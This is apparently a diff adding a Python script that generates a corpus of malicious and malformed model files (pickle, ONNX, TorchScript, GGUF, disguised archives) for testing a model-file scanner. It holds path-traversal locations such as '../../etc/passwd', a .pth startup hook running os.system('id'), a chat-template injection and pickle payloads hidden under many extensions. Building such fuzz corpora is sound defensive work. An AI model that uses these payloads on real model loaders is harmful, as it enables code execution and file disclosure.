+    yield "truncated", gguf([text(b"k") + struct.pack("<IB", 0, 1)])[:30]
+    yield "big-endian", b"GGUF" + struct.pack(">IQQ", 3, 0, 0)
+
+
+def onnx_files():
+    def graph(nodes, inits=()):
+        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, None)
+        return helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])], [y], list(inits))
+
+    def data(g, opsets=("",), **options):
+        return helper.make_model(g, opset_imports=[helper.make_opsetid(d, 18) for d in opsets], **options).SerializeToString()
+
+    identity = helper.make_node("Identity", ["x"], ["y"])
+
+    def external(location, **more):
+        tensor = numpy_helper.from_array(np.ones(4, np.float32), "w")
+        tensor.ClearField("raw_data")
+        tensor.data_location = TensorProto.EXTERNAL
+        for key, value in {"location": location, **more}.items():
+            tensor.external_data.add(key=key, value=str(value))
+        return tensor
+
+    for i, location in enumerate(["../../etc/passwd", "/etc/passwd", "a/../../x", "..\\x", "C:\\x", "", ".", "..", "./w.bin", "a//b", "x\0y", "missing.bin", "~/x", "file:///etc/passwd", "%2e%2e/x", ".hidden"]):
+        yield f"external-{i}", data(graph([identity], [external(location)]))
+        inner = helper.make_node("Constant", [], ["y"], value=external(location))
+        yield f"external-attribute-{i}", data(graph([inner]))
+    escape = external("../x")
+    branch = helper.make_graph([identity], "b", [], [], [escape])
+    yield "external-subgraph", data(graph([helper.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch)]))
+    sparse = helper.make_sparse_tensor(escape, helper.make_tensor("i", TensorProto.INT64, [1], [0]), [4])
+    g = graph([identity])
+    g.sparse_initializer.append(sparse)
+    yield "external-sparse", data(g)
+    function = helper.make_function("d", "F", ["a"], ["b"], [helper.make_node("Constant", [], ["b"], value=escape)], [helper.make_opsetid("", 18)])
+    yield "external-function", data(graph([helper.make_node("F", ["x"], ["y"], domain="d")]), ("", "d"), functions=[function])
+    implicit = external("../x")
+    implicit.data_location = TensorProto.DEFAULT
+    yield "external-undeclared", data(graph([identity], [implicit]))
+    twice = external("side.bin")
+    twice.external_data.add(key="location", value="../x")
+    yield "external-twice", data(graph([identity], [twice]))
+    write("onnx/side.bin-reference.npy", b"")
+    yield "external-offset", data(graph([identity], [external("side.safetensors", offset=1 << 40)]))
+    yield "external-negative", data(graph([identity], [external("side.safetensors", offset=-4)]))
+    yield "external-length", data(graph([identity], [external("side.safetensors", length=1 << 40)]))
+    yield "custom-op", data(graph([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")]), ("", "ai.onnx.contrib"))
+    yield "custom-aten", data(graph([helper.make_node("ATen", ["x"], ["y"], domain="org.pytorch.aten")]), ("", "org.pytorch.aten"))
+    loop = graph([helper.make_node("Evil", ["x"], ["y"], domain="evil")])
+    yield "custom-subgraph", data(graph([helper.make_node("Loop", ["x"], ["y"], body=loop)]), ("", "evil"))
+    good = data(graph([identity]))
+    yield "pickle", EVIL
+    yield "text", b"import os\n"
+    yield "truncated", good[:-3]
+    yield "trailing", good + EVIL
+    yield "group", good + b"\x0b\x0c"
+    yield "wire-type-6", good + b"\x0e"
+    yield "unknown-field", good + b"\xf8\x07\x01"
+    yield "field-zero", good + b"\x00\x00"
+    yield "length-lie", good + b"\x3a\xff\xff\xff\xff\x07"
+    yield "varint", good + b"\x08" + b"\xff" * 11
+    yield "no-graph", b"\x08\x0a"
+    yield "no-version", b"\x3a" + bytes([len(graph([identity]).SerializeToString())]) + graph([identity]).SerializeToString()
+    body = b""
+    for _ in range(3000):  # attribute.g -> node -> attribute, far deeper than any loop
+        for tag in (b"\x32", b"\x2a", b"\x0a"):
+            length, out = len(body), b""
+            while True:
+                out += bytes([length & 0x7F | (0x80 if length > 0x7F else 0)])
+                length >>= 7
+                if not length:
+                    break
+            body = tag + out + body
+    length, out = len(body), b""
+    while True:
+        out += bytes([length & 0x7F | (0x80 if length > 0x7F else 0)])
+        length >>= 7
+        if not length:
+            break
+    yield "deep", b"\x08\x0a\x3a" + out + body
+    lie = numpy_helper.from_array(np.ones(4, np.float32), "w")
+    lie.dims[0] = 1 << 40
+    yield "raw-data-short", data(graph([identity], [lie]))
+    lie2 = numpy_helper.from_array(np.ones(4, np.float32), "w")
+    lie2.dims[0] = -4
+    yield "dims-negative", data(graph([identity], [lie2]))
+
+
+def scripts():
+    class FromFile(torch.nn.Module):
+        def forward(self, x: torch.Tensor):
+            return torch.from_file("/tmp/davy-corpus-canary", True, 4)
+
+    class Save(torch.nn.Module):
+        def forward(self, x: torch.Tensor):
+            torch.save(x, "/tmp/davy-corpus-canary")
+            return x
+
+    for cls in (FromFile, Save):
+        try:
+            buffer = io.BytesIO()
+            torch.jit.save(torch.jit.script(cls()), buffer)
+            yield cls.__name__, buffer.getvalue()
+        except Exception as error:
+            print(f"skipped script {cls.__name__}: {error}", file=sys.stderr)
+    buffer = io.BytesIO()
+    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buffer)
+    base = records(buffer.getvalue())
+    root = next(iter(base)).split("/")[0]
+    code = f"{root}/code/__torch__/torch/nn/modules/linear.py"
+    yield "custom-op", pack({**base, code: base[code] + b"\n    a = ops.evil.run(1)\n"})
+    yield "custom-class", pack({**base, code: base[code] + b"\n    a : __torch__.torch.classes.evil.Shell\n"})
+    yield "from-file-op", pack({**base, code: base[code] + b"\n    a = torch.from_file('x', True, 4)\n"})
+    yield "data-pickle", pack({**base, f"{root}/data.pkl": EVIL})
+    yield "constants-pickle", pack({**base, f"{root}/constants.pkl": EVIL})
+    yield "debug-pickle", pack({**base, f"{code}.debug_pkl": EVIL})
+    yield "extra-pickle", pack({**base, f"{root}/evil.pkl": EVIL})
+    yield "missing-storage", pack({k: v for k, v in base.items() if not k.endswith("data/0")})
+    yield "exported", pack({"m/archive_format": b"pt2", "m/version": b"0", "m/data/sample_inputs/model.pt": EVIL, "m/models/model.json": b"{}", "m/data.pkl": EVIL})
+
+
+def disguises():
+    for extension in ("pkl", "pickle", "pt", "pth", "bin", "ckpt", "joblib", "dill", "dat", "txt", "json", "yaml", "py", "png", "model", "weights", "md", "p", "onnx", "safetensors", "gguf", "npy", "h5", "csv"):
+        yield f"proto0.{extension}", EVIL0
+        yield f"proto2.{extension}", EVIL
+        yield f"proto4.{extension}", EVIL4
+        yield f"zip.{extension}", pack({"archive/data.pkl": EVIL, "archive/version": b"3\n"})
+    yield "noextension", EVIL
+    yield "gzip.pkl", gzip.compress(EVIL)
+    yield "zlib.pkl", zlib.compress(EVIL)
+    yield "xz.joblib", lzma.compress(EVIL)
+    yield "bz2.pt", __import__("bz2").compress(EVIL)
+    yield "7z.pt", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(32) + EVIL
+    yield "elf.so", b"\x7fELF" + bytes(64)
+    yield "elf.bin", b"\x7fELF" + bytes(64)
+    yield "elf", b"\x7fELF" + bytes(64)
+    yield "elf.txt", b"\x7fELF" + bytes(64)
+    yield "library.so.1", bytes(64)
+    pe = bytearray(b"MZ" + bytes(126))
+    pe[60] = 64
+    pe[64:68] = b"PE\0\0"
+    yield "program.dat", bytes(pe)
+    yield "macho.bin", b"\xcf\xfa\xed\xfe" + bytes(64)
+    yield "module.pyc", b"\xa7\r\r\n" + bytes(64)
+    yield "hook.pth", b"import os; os.system('id')\n"
+    yield "sitecustomize.py", b"import os\n"
+    yield "script.bin", b"#!/bin/sh\nid\n"
+    yield "script.pt", b"import os\nos.system('id')\n"
+    yield "model.h5", b"\x89HDF\r\n\x1a\n" + bytes(64)
+    yield "model.keras", pack({"metadata.json": b"{}", "config.json": b'{"class_name": "Lambda"}', "model.weights.h5": b"\x89HDF\r\n\x1a\n"})
+    yield "hdf5.dat", b"\x89HDF\r\n\x1a\n" + bytes(64)
+    yield "saved_model.pb", b"\x08\x01"
+    yield "picture.png", b"\x89PNG\r\n\x1a\n" + bytes(32) + pack({"a/data.pkl": EVIL})
+    yield "notes.txt", b"hello\n" + pack({"a/data.pkl": EVIL})
+    yield "tokenizer_config.json", json.dumps({"chat_template": "{{ ''.__class__.__base__.__subclasses__() }}"}).encode()
+    yield "random.bin", bytes(range(256)) * 4
+    yield "random.pt", b"\x00" * 64
+    yield "empty-zip.pt", pack({})
+
+
+for group, maker in {
+    "gadget": pickles_of_gadgets, "technique": techniques,
+}.items():
+    for name, data in maker():
+        write(f"{group}/{name}.pkl", data)
+for name, data in techniques():  # the same streams where a checkpoint is expected, and as its record
+    write(f"record/{name}.pt", pack({"m/data.pkl": data, "m/version": b"3\n", "m/byteorder": b"little"}))
+for name, data in tensors():
+    base = records(checkpoint({"x": torch.arange(4.0)}))
+    root = next(iter(base)).split("/")[0]
+    write(f"tensor/{name}.pt", pack({**base, f"{root}/data.pkl": data}))
+for folder, maker, extension in (("zip", torch_zip, ".pt"), ("legacy", legacy, ".pt"), ("tar", tars, ""), ("numpy", numpy_files, ""), ("safetensors", safetensors_files, ".safetensors"), ("gguf", gguf_files, ".gguf"), ("onnx", onnx_files, ".onnx"), ("script", scripts, ".pt"), ("disguise", disguises, "")):
+    for name, data in maker():
+        write(f"{folder}/{name}{extension}", data)
+(OUT / "onnx/side.bin-reference.npy").unlink()
+print(sum(1 for path in OUT.rglob("*") if path.is_file()))
